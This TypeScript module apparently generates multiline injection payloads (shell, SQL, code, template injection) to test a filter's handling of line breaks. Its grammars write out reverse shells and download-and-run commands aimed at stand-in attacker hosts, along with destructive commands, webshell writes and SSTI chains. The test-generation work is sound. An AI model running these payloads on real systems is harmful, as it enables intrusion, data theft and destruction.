/**
 * Commands, SQL, code and templates split across lines (issue 14, session 22): the value closes the
 * application's context (a short value, a quote, a bracket), maybe ends the statement (`;`), and the
 * injected part starts on a new line. A shell, a SQL client running a batch, PHP, Python and Node
 * evaluators and template engines all take a line break where a space or `;` was expected, and a
 * filter that reads a separator and the command after it as one run of text (`;` then spaces then
 * `kill -9 -1`) does not see them joined across `\n`, `\r\n`, `%0A`, `%0D%0A` or a line continuation.
 *
 * The line break is drawn in the spelling that reaches the application: raw (the client encodes it:
 * `%0A` in a form, `\n` in JSON, a raw line in a multipart part), `\r\n`, or written percent-encoded by
 * the attacker (`%0a`, `%0D%0A`, with `%09` indentation), which travels as written in a query or form
 * (placeFor sends such a payload there). Grammars over lead, separator, break, command and tail, written
 * from the attack classes, not from any payload list.
 */
import type { AttackFamily, AttackPlace } from './family.js';
import { attackerHost, attackerIp, attackerUrl, base64, int, maybe, pick, randomCase, unixCommand, windowsCommand, type Random } from './grammar.js';

/** A line break as the payload carries it: raw (the client encodes it), CRLF, or written percent-encoded by the attacker. */
function lineBreak(random: Random): string {
  return pick(['\n', '\n', '\n', '\r\n', '\r\n', '%0a', '%0A', '%0d%0a', '%0D%0A', '\n\n'], random);
}

/** Whitespace around a break: none mostly, sometimes the indentation a pasted block keeps. */
function indent(random: Random, nl: string): string {
  if (random() < 0.7) return '';
  return nl.startsWith('%') ? pick(['%09', '%20%20', '%20'], random) : pick(['\t', '  ', '    '], random);
}

/** What the value held before the break: an ordinary short value, maybe closing a quote or a call. */
function shellLead(random: Random): string {
  return pick(['', 'x', 'a', '1', 'test', 'ok', 'foo', '127.0.0.1', 'localhost', 'example.com', 'a.txt', `${int(random, 1, 99999)}`, "x'", 'x"', 'x)', 'q);', 'u)'], random);
}

/** A command word spelled so a filter does not see it: quotes, a backslash, `$@`, an empty expansion, or a line continuation. */
function obscureWord(word: string, random: Random): string {
  if (word.length < 2 || random() < 0.55) return word;
  const cut = int(random, 1, word.length - 1);
  const [a, b] = [word.slice(0, cut), word.slice(cut)];
  return pick([`${a}''${b}`, `${a}""${b}`, `${a}\\${b}`, `${a}$@${b}`, `${a}\\\n${b}`, `${a}\${u}${b}`], random);
}

/** The commands an attacker runs once on a line of their own: recon, download-and-run, reverse shells, destruction, privilege checks. */
function shellLine(random: Random): string {
  const url = attackerUrl(random);
  const ip = attackerIp(random);
  const port = int(random, 1024, 65535);
  const cmd = pick(
    [
      () => unixCommand(random),
      () => unixCommand(random),
      () => pick(['sudo -l', 'sudo -n id', 'id -a', 'cat /etc/group', 'ls -la /root', 'cat ~/.ssh/id_rsa', 'cat /root/.bash_history', 'find / -perm -4000 -type f', 'getent passwd', 'last -a', 'w', 'netstat -an', 'ss -tlnp', 'crontab -l', 'cat /proc/version', 'uname -r', 'lsb_release -a', 'env | grep -i key'], random),
      () => pick(['kill -9 -1', 'killall -9 nginx', 'rm -rf /', 'rm -rf /var/www', 'rm -rf --no-preserve-root /', 'shutdown -h now', 'reboot', 'halt', 'init 0', 'mkfs.ext4 /dev/sda1', 'dd if=/dev/zero of=/dev/sda', 'history -c', 'crontab -r', ':(){ :|:& };:', 'chmod -R 777 /', 'iptables -F'], random),
      () => `${pick(['wget', 'curl -o /tmp/x', 'curl -O', 'busybox wget'], random)} ${url}`,
      () => `${pick(['curl -s', 'curl -fsSL', 'wget -qO-'], random)} ${url}${pick(['|sh', ' | bash', '|bash -s'], random)}`,
      () => `${pick(['nc', 'ncat', 'busybox nc'], random)} ${ip} ${port} -e ${pick(['/bin/sh', '/bin/bash', 'sh'], random)}`,
      () => `${pick(['bash', 'sh'], random)} -i >& /dev/tcp/${ip}/${port} 0>&1`,
      () => `socat ${pick(['exec:bash', 'exec:sh', 'tcp:' + ip + ':' + port], random)} ${pick(['tcp:' + ip + ':' + port, 'exec:/bin/sh'], random)}`,
      () => `echo ${base64(unixCommand(random))}|base64 -d|${pick(['sh', 'bash'], random)}`,
      () => `${pick(['chmod +x', 'chmod 777', 'chmod 4755'], random)} /tmp/${pick(['x', '.a', 'p'], random)}`,
      () => `${pick(['useradd', 'adduser'], random)} ${pick(['-o -u 0 ', '-m ', ''], random)}${pick(['backdoor', 'sys', 'admin2', 'tmpuser'], random)}`,
      () => `echo '${pick(['* * * * *', '*/5 * * * *'], random)} curl ${url}|sh' | crontab -`,
      () => `${pick(['perl', 'python', 'python3', 'ruby', 'php'], random)} -${pick(['e', 'c', 'r'], random)} ${pick(["'", '"'], random)}${pick(['system("id")', 'import os;os.system("id")', 'exec "id"', `fsockopen("${ip}",${port})`], random)}${pick(["'", '"'], random)}`,
      () => `${pick(['nslookup', 'ping -c 1', 'dig', 'host'], random)} ${pick(['', '$(whoami).', '`id -u`.'], random)}${attackerHost(random)}`,
      () => `tftp -i ${ip} GET ${pick(['a.exe', 'x.sh', 'nc'], random)}`,
      () => `xterm -display ${ip}:1`,
      () => `busybox telnetd -l /bin/sh -p ${port}`,
      () => `mkfifo /tmp/${pick(['f', 'p', 's'], random)};cat /tmp/f|sh -i 2>&1|nc ${ip} ${port} >/tmp/f`,
    ],
    random,
  )();
  const [head, ...args] = cmd.split(' ');
  const spaced = args.length === 0 ? obscureWord(head, random) : `${obscureWord(head, random)} ${args.join(' ')}`;
  return random() < 0.15 ? spaced.replace(/ /g, pick(['${IFS}', '$IFS$9', '\t'], random)) : spaced;
}

/** A Windows command on a line of its own (cmd runs a batch line by line too). */
function windowsLine(random: Random): string {
  return pick(
    [
      () => windowsCommand(random),
      () => `powershell ${pick(['-nop -w hidden ', '-ep bypass ', '-c ', ''], random)}${pick([`"IEX(New-Object Net.WebClient).DownloadString('${attackerUrl(random)}')"`, `iwr ${attackerUrl(random)} | iex`], random)}`,
      () => `certutil -urlcache -split -f ${attackerUrl(random)} ${pick(['a.exe', '%TEMP%\\x.exe'], random)}`,
      () => `bitsadmin /transfer j /download ${attackerUrl(random)} %TEMP%\\x.exe`,
      () => `net user ${pick(['hacker', 'support2', 'svc'], random)} ${pick(['P@ssw0rd', 'Passw0rd!'], random)} /add`,
      () => `reg ${pick(['save hklm\\sam sam.hiv', 'query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'], random)}`,
      () => `vssadmin delete shadows /all /quiet`,
      () => `${pick(['cmd /c', 'cmd.exe /c'], random)} ${windowsCommand(random)}`,
    ],
    random,
  )();
}

function multilineShell(random: Random): string {
  const nl = lineBreak(random);
  const sep = pick(['', '', ';', ';', '|', '&&', '||', '&', '`', '$('], random);
  const closer = sep === '`' ? '`' : sep === '$(' ? ')' : '';
  const lines = Array.from({ length: random() < 0.75 ? 1 : int(random, 2, 3) }, () => (random() < 0.15 ? windowsLine(random) : shellLine(random)));
  const end = pick(['', '', ';', `;${nl}`, nl, ' #', `${nl}#`, ` &`], random);
  const body = lines.map((l) => `${indent(random, nl)}${l}`).join(pick([nl, `;${nl}`, ` &&${nl}`, `;${nl}`], random));
  return `${shellLead(random)}${sep}${nl}${body}${closer}${end}`;
}

/** What a SQL value held before it broke out: a value, a closing quote, a closing bracket. */
function sqlLead(random: Random): string {
  const n = int(random, 1, 9999);
  return pick([`${n}`, `${n})`, "'", "')", `test'`, `test')`, `test)`, `name'))`, `${n}'`, `admin'`, `x"`, `${n}))`, `abc')`], random);
}

function sqlTable(random: Random): string {
  return pick(['users', 'user', 'accounts', 'admin', 'members', 'customers', 'orders', 'sessions', 'wp_users', 'tbl_user', 'login'], random);
}

/** A stacked statement an injection runs on its own line: destruction, privilege, exfiltration, delay, command execution. */
function sqlStatement(random: Random): string {
  const t = sqlTable(random);
  const s = int(random, 2, 15);
  return pick(
    [
      `DROP TABLE ${t}`, `DROP TABLE IF EXISTS ${t}`, `DROP DATABASE ${pick(['app', 'prod', 'shop', 'main'], random)}`, `TRUNCATE TABLE ${t}`, `DELETE FROM ${t}`,
      `DELETE FROM ${t} WHERE 1=1`, `delete from ${t} where (1)`, `UPDATE ${t} SET ${pick(['role', 'is_admin', 'password', 'email'], random)}=${pick(["'admin'", '1', "'x'", `'${attackerHost(random)}'`], random)}${maybe(random, 0.5, ' WHERE 1=1')}`,
      `INSERT INTO ${t} (${pick(['username,password', 'name,role', 'email,is_admin'], random)}) VALUES (${pick(["'hacker','x'", "'root','admin'", "'a@b.c',1"], random)})`,
      `SELECT pg_sleep(${s})`, `SELECT SLEEP(${s})`, `WAITFOR DELAY '0:0:${s}'`, `SELECT BENCHMARK(${s}000000,MD5(1))`,
      `EXEC xp_cmdshell '${windowsCommand(random)}'`, `EXEC master..xp_cmdshell '${windowsCommand(random)}'`, `EXEC sp_configure 'xp_cmdshell',1`,
      `COPY (SELECT '') TO PROGRAM '${unixCommand(random).replace(/'/g, '')}'`, `CREATE TABLE x(t text); COPY x FROM PROGRAM '${unixCommand(random).replace(/'/g, '')}'`,
      `SELECT ${pick(["'<?php system($_GET[c]);?>'", 'user,password FROM ' + t], random)} INTO OUTFILE '${pick(['/var/www/html/s.php', '/tmp/x.txt'], random)}'`,
      `LOAD DATA INFILE '/etc/passwd' INTO TABLE ${t}`, `SELECT LOAD_FILE('/etc/passwd')`, `SHUTDOWN`, `SHUTDOWN WITH NOWAIT`,
      `CREATE USER ${pick(['hacker', 'x'], random)} ${pick(["IDENTIFIED BY 'x'", "WITH PASSWORD 'x'"], random)}`, `GRANT ALL PRIVILEGES ON *.* TO ${pick(["'x'@'%'", 'public', 'hacker'], random)}`,
      `ALTER USER ${pick(['postgres', 'sa', 'root'], random)} WITH PASSWORD 'x'`, `SELECT * FROM ${t}`, `SELECT ${pick(['username,password', 'email,password_hash', '*'], random)} FROM ${t}${maybe(random, 0.5, ' LIMIT 1')}`,
      `UNION SELECT ${pick(['null,version()', '1,2,3', 'username,password FROM ' + t, '@@version,null'], random)}`,
    ],
    random,
  );
}

/** Keywords on lines of their own: a filter reading `UNION SELECT` or `OR 1=1` as one run does not see them split by a break. */
function sqlSplitKeywords(random: Random, nl: string): string {
  const n = int(random, 1, 9999);
  return pick(
    [
      `${n}${nl}UNION${nl}SELECT ${pick(['null,version()', '1,2,3', 'username,password FROM ' + sqlTable(random), '@@version'], random)}`,
      `'${nl}OR${nl}'1'='1`, `' OR${nl}1=1`, `${n} OR${nl}${n}=${n}`, `'${nl}AND${nl}SLEEP(${int(random, 2, 15)})`, `${n}${nl}AND${nl}1=(SELECT COUNT(*) FROM ${sqlTable(random)})`,
      `'${nl}UNION ALL${nl}SELECT${nl}NULL,${pick(['user()', 'version()', 'database()'], random)}`, `${n})${nl}OR${nl}(1=1`, `admin'${nl}--`,
      `1${nl}ORDER${nl}BY ${int(random, 1, 30)}`, `${n};${nl}SELECT${nl}pg_sleep(${int(random, 2, 15)})`,
    ],
    random,
  );
}

function multilineSql(random: Random): string {
  const nl = lineBreak(random);
  const tail = pick(['', ';', `;${nl}`, `;${nl}--`, ` --`, `;--`, `${nl}-- `, ` #`, `;${nl}#`, `/*`, `;${nl}/*`], random);
  if (random() < 0.3) {
    const split = sqlSplitKeywords(random, nl);
    return `${random() < 0.3 ? randomCase(split, random) : split}${pick(['', '--', ' -- -', '#'], random)}`;
  }
  const statements = Array.from({ length: random() < 0.8 ? 1 : 2 }, () => sqlStatement(random));
  const cased = statements.map((s) => (random() < 0.25 ? randomCase(s, random) : random() < 0.3 ? s.toLowerCase() : s));
  const sep = pick([';', ';', '', ' ;'], random);
  return `${sqlLead(random)}${sep}${nl}${cased.map((s) => `${indent(random, nl)}${s}`).join(`;${nl}`)}${tail}`;
}

/** PHP, Python, Node and Ruby statements after a break-out of a string or call, each on its own line. */
function multilineCode(random: Random): string {
  const nl = lineBreak(random);
  const cmd = unixCommand(random).replace(/['"]/g, '');
  const q = pick(["'", '"'], random);
  const s = `${q}${cmd}${q}`;
  const language = pick(['php', 'php', 'python', 'python', 'node', 'node', 'ruby', 'perl'] as const, random);
  const close = pick(["'", '"', "');", '");', "')", ')', ');', '];', "'];", '', ';', '}'], random);
  let lines: string[];
  let comment: string;
  switch (language) {
    case 'php':
      comment = pick(['//', '#', '/*', '?>'], random);
      lines = pick(
        [
          [`${pick(['system', 'passthru', 'exec', 'shell_exec', 'popen'], random)}(${random() < 0.6 ? s : `$_GET[${q}c${q}]`});`],
          [`$c = ${random() < 0.5 ? `$_REQUEST[${q}cmd${q}]` : s};`, `${pick(['system', 'passthru', 'echo shell_exec'], random)}($c);`],
          [`eval(${pick(['base64_decode', 'str_rot13', 'gzinflate'], random)}(${random() < 0.5 ? `$_POST[${q}x${q}]` : `${q}${base64(`system(${s});`)}${q}`}));`],
          [`$f = ${pick([`${q}sys${q}.${q}tem${q}`, `strrev(${q}metsys${q})`], random)};`, `$f(${s});`],
          [`file_put_contents(${q}${pick(['s.php', '../x.php', '/var/www/html/.a.php'], random)}${q}, ${q}<?php system($_GET[c]); ?>${q});`],
          [`include(${q}${attackerUrl(random)}${q});`],
          ['<?php', `${pick(['system', 'passthru'], random)}(${s});`, '?>'],
        ],
        random,
      );
      break;
    case 'python':
      comment = '#';
      lines = pick(
        [
          ['import os', `os.system(${s})`],
          [`__import__(${q}os${q}).${pick(['system', 'popen'], random)}(${s})${maybe(random, 0.4, '.read()')}`],
          ['import subprocess', `subprocess.${pick(['call', 'run', 'check_output', 'Popen'], random)}(${s}, shell=True)`],
          [`exec(${q}import os${q})`, `os.system(${s})`],
          [`open(${q}${pick(['/etc/passwd', '/proc/self/environ', '/app/.env'], random)}${q}).read()`],
          ['import socket,subprocess,os', `s=socket.socket();s.connect((${q}${attackerIp(random)}${q},${int(random, 1024, 65535)}))`, `os.dup2(s.fileno(),0);subprocess.call([${q}/bin/sh${q},${q}-i${q}])`],
          [`eval(compile(${q}import os${q},${q}x${q},${q}exec${q}))`, `os.system(${s})`],
        ],
        random,
      );
      break;
    case 'node':
      comment = '//';
      lines = pick(
        [
          [`require(${q}child_process${q}).${pick(['execSync', 'exec', 'spawnSync'], random)}(${s});`],
          [`const cp = require(${q}child_process${q});`, `cp.execSync(${s});`],
          [`process.mainModule.require(${q}child_process${q}).execSync(${s});`],
          [`global.process.mainModule.constructor._load(${q}child_process${q}).exec(${s});`],
          [`res.end(require(${q}fs${q}).readFileSync(${q}${pick(['/etc/passwd', '../.env', '/proc/self/environ'], random)}${q}).toString());`],
          [`this.constructor.constructor(${q}return process${q})().mainModule.require(${q}child_process${q}).execSync(${s});`],
          [`process.${pick(['exit()', 'kill(process.pid)', 'abort()'], random)};`],
          ['while(true){}'],
        ],
        random,
      );
      break;
    case 'ruby':
      comment = '#';
      lines = pick([[`system(${s})`], [`\`${cmd}\``], [`IO.popen(${s}).read`], [`exec ${s}`], [`require ${q}open3${q}`, `Open3.capture2(${s})`]], random);
      break;
    default:
      comment = '#';
      lines = pick([[`system(${s});`], [`exec ${s};`], [`open(F, ${q}|${cmd}${q});`, 'print <F>;'], [`\`${cmd}\`;`]], random);
  }
  const lead = pick(['', 'x', 'a', '1', 'test', 'name', `${int(random, 1, 999)}`], random);
  return `${lead}${close}${nl}${lines.map((l) => `${indent(random, nl)}${l}`).join(nl)}${maybe(random, 0.6, `${nl}${comment}`)}`;
}

/** Template expressions whose delimiters and body sit on separate lines (Jinja2, Twig, Freemarker, Velocity, ERB, EL/SpEL, Handlebars). */
function multilineTemplate(random: Random): string {
  const nl = lineBreak(random);
  const cmd = unixCommand(random).replace(/['"]/g, '');
  const i = (): string => indent(random, nl);
  const body = pick(
    [
      () => `{{${nl}${i()}${pick(['self', 'cycler', 'joiner', 'namespace', 'lipsum', 'url_for'], random)}.__init__.__globals__${pick(['.os.popen', "['os'].popen", '.__builtins__.__import__("os").popen'], random)}("${cmd}").read()${nl}}}`,
      () => `{{${nl}${i()}''.__class__.__mro__[1].__subclasses__()${nl}}}`,
      () => `{%${nl}${i()}import os${nl}%}{{${nl}os.popen("${cmd}").read()${nl}}}`,
      () => `{{${nl}${i()}config.__class__.__init__.__globals__['os'].popen('${cmd}').read()${nl}}}`,
      () => `{%${nl}${i()}for x in ().__class__.__base__.__subclasses__()${nl}%}{%${nl}if "warning" in x.__name__${nl}%}{{x()._module.__builtins__['__import__']('os').popen("${cmd}").read()}}{%endif%}{%endfor%}`,
      () => `<#assign${nl}${i()}ex="freemarker.template.utility.Execute"?new()>${nl}\${${nl}ex("${cmd}")${nl}}`,
      () => `#set($x=${nl}${i()}$class.inspect("java.lang.Runtime").type.getRuntime().exec("${cmd}"))${nl}$x`,
      () => `\${${nl}${i()}T(java.lang.Runtime).getRuntime().exec("${cmd}")${nl}}`,
      () => `#{${nl}${i()}T(java.lang.Runtime).getRuntime().exec('${cmd}')${nl}}`,
      () => `\${${nl}${i()}"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("${cmd}")${nl}}`,
      () => `<%=${nl}${i()}\`${cmd}\`${nl}%>`,
      () => `<%=${nl}${i()}system("${cmd}")${nl}%>`,
      () => `{{${nl}${i()}_self.env.registerUndefinedFilterCallback("${pick(['exec', 'system', 'passthru'], random)}")${nl}}}{{${nl}_self.env.getFilter("${cmd}")${nl}}}`,
      () => `{{${nl}${i()}['${cmd}']|filter('${pick(['system', 'passthru', 'exec'], random)}')${nl}}}`,
      () => `{{#with "s" as |string|}}${nl}${i()}{{#with "e"}}${nl}{{#with split as |conslist|}}${nl}{{this.push (lookup string.sub "constructor")}}${nl}{{/with}}{{/with}}{{/with}}`,
      () => `\${${nl}${i()}7*7${nl}}`,
      () => `{{${nl}${i()}7*'7'${nl}}}`,
      () => `{{${nl}${i()}constructor.constructor("return process")().mainModule.require("child_process").execSync("${cmd}")${nl}}}`,
    ],
    random,
  )();
  return `${pick(['', '', 'Hello ', 'x', 'name: '], random)}${body}`;
}

/**
 * A payload whose line breaks the attacker wrote percent-encoded (`%0a`) reaches the application decoded
 * only through a URL decoding: a query or form value. In a JSON string or a multipart part it would stay
 * `%0a` text, so such a draw goes to a form field instead.
 */
function encodedBreakPlace(payload: string, place: AttackPlace): AttackPlace {
  if ((place === 'json' || place === 'multipart') && /%0[ad]/i.test(payload)) return 'form';
  return place;
}

export const MULTILINE_FAMILIES: readonly AttackFamily[] = [
  { name: 'multiline-shell', category: 'cmdexe', places: ['form', 'json', 'query', 'multipart'], make: multilineShell, placeFor: encodedBreakPlace },
  { name: 'multiline-sql', category: 'sqli', places: ['form', 'json', 'query', 'multipart'], make: multilineSql, placeFor: encodedBreakPlace },
  { name: 'multiline-code', category: 'code-injection', places: ['form', 'json', 'query', 'multipart'], make: multilineCode, placeFor: encodedBreakPlace },
  { name: 'multiline-template', category: 'ssti', places: ['form', 'json', 'query', 'multipart'], make: multilineTemplate, placeFor: encodedBreakPlace },
];
